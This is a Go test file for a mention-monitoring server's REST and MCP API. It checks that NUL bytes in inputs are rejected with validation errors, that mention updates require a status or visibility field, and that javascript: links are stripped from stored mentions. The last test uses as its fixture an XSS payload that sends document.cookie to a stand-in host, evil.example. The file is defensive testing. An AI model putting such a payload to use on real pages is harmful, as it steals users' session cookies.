package server_test

import (
	"net/url"
	"strings"
	"testing"
	"time"

	"earshot/store"
)

// Issue 25 M7: a NUL (U+0000) in a filter, a name, a path id or a login is
// a 400 naming the field on both backends, over REST and MCP. PostgreSQL
// text cannot hold it: before, these were 500s there.
func TestNULInInputIsAValidationError(t *testing.T) {
	e := newEnv(t)
	const nul = "a\x00b"
	for _, c := range []struct {
		method, path, token string
		body                any
		param               string
	}{
		{"GET", "/api/v1/mentions?search=" + url.QueryEscape(nul), e.keyA, nil, "search"},
		{"GET", "/api/v1/mentions?author_handle=" + url.QueryEscape(nul), e.keyA, nil, "author_handle"},
		{"GET", "/api/v1/mention-count?search=" + url.QueryEscape(nul), e.keyA, nil, "search"},
		{"GET", "/api/v1/mentions/" + url.PathEscape(nul), e.keyA, nil, ""}, // the router's own rule
		{"POST", "/api/v1/monitors", e.keyA, map[string]any{"name": nul, "keywords": []string{"acme"}, "sources": []string{"hn"}}, "name"},
		{"POST", "/api/v1/monitors", e.keyA, map[string]any{"name": "ok", "keywords": []string{nul}, "sources": []string{"hn"}}, "keywords"},
		{"POST", "/api/v1/projects", e.sessionA, map[string]any{"name": nul}, "name"},
		{"POST", "/api/v1/auth/sessions", "", map[string]any{"email": "a@example.com" + "\x00", "password": "correct-horse-42"}, "email"},
	} {
		r := e.do(c.method, c.path, c.token, c.body)
		if r.status != 400 || r.errCode() != "VALIDATION_ERROR" || (c.param != "" && !strings.Contains(string(r.raw), "U+0000")) || (c.param != "" && r.errParam() != c.param) {
			t.Errorf("%s %s: %d %s param %q, want 400 VALIDATION_ERROR param %q: %s", c.method, c.path, r.status, r.errCode(), r.errParam(), c.param, r.raw)
		}
	}
	code, raw := mcpRaw(t, e, e.keyA, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"list_mentions","arguments":{"search":"a\u0000b"}}}`)
	if code != 200 || !strings.Contains(raw, "VALIDATION_ERROR") || !strings.Contains(raw, "U+0000") {
		t.Errorf("MCP list_mentions with a NUL: %d %s", code, raw)
	}
}

// Issue 25: PATCH /api/v1/mentions/{id} with neither status nor
// public_visibility is a 400 naming status (the spec makes status
// required; CONTRACT §9 adds public_visibility as the alternative), over
// REST and MCP; before, it answered 200 and changed nothing.
func TestUpdateMentionNeedsStatusOrVisibility(t *testing.T) {
	e := newEnv(t)
	m := e.seedMentions(e.projA, nil, 1, time.Now(), nil)[0]
	for _, body := range []any{"", "{}", map[string]any{"status": ""}} {
		r := e.do("PATCH", "/api/v1/mentions/"+m.ID, e.keyA, body)
		if r.status != 400 || r.errCode() != "VALIDATION_ERROR" || r.errParam() != "status" {
			t.Errorf("PATCH with %q: %d %s param %q, want 400 VALIDATION_ERROR naming status: %s", body, r.status, r.errCode(), r.errParam(), r.raw)
		}
	}
	code, raw := mcpRaw(t, e, e.keyA, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"update_mention_status","arguments":{"id":"`+m.ID+`"}}}`)
	if code != 200 || !strings.Contains(raw, `"VALIDATION_ERROR"`) || !strings.Contains(raw, `"param":"status"`) {
		t.Errorf("MCP update_mention_status without status: %d %s", code, raw)
	}
	if got := e.do("PATCH", "/api/v1/mentions/"+m.ID, e.keyA, map[string]any{"public_visibility": "featured"}).ok().data(); got["public_visibility"] != "featured" {
		t.Errorf("public_visibility alone: %v", got)
	}
	if got := e.do("PATCH", "/api/v1/mentions/"+m.ID, e.keyA, map[string]any{"status": "done"}).ok().data(); got["status"] != "done" {
		t.Errorf("status alone: %v", got)
	}
}

// Issue 25: only an http(s) url is a mention's url. A post whose link is
// javascript: is stored without one, so REST and MCP (and webhooks, which
// send the stored mention) never hand it to whoever renders it.
func TestMentionURLIsWebOnly(t *testing.T) {
	e := newEnv(t)
	ms := e.seedMentions(e.projA, nil, 2, time.Now(), func(i int, m *store.NewMention) {
		if i == 1 {
			m.URL = "javascript:fetch('//evil.example/'+document.cookie)"
		}
	})
	got := e.do("GET", "/api/v1/mentions/"+ms[1].ID, e.keyA, nil).ok().data()
	if got["url"] != "" {
		t.Errorf("REST url of a javascript: link: %v", got["url"])
	}
	if got := e.do("GET", "/api/v1/mentions/"+ms[0].ID, e.keyA, nil).ok().data(); !strings.HasPrefix(got["url"].(string), "https://") {
		t.Errorf("an https url: %v", got["url"])
	}
	_, raw := mcpRaw(t, e, e.keyA, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_mention","arguments":{"id":"`+ms[1].ID+`"}}}`)
	if strings.Contains(raw, "javascript") || !strings.Contains(raw, ms[1].ID) {
		t.Errorf("MCP get_mention: %s", raw)
	}
}
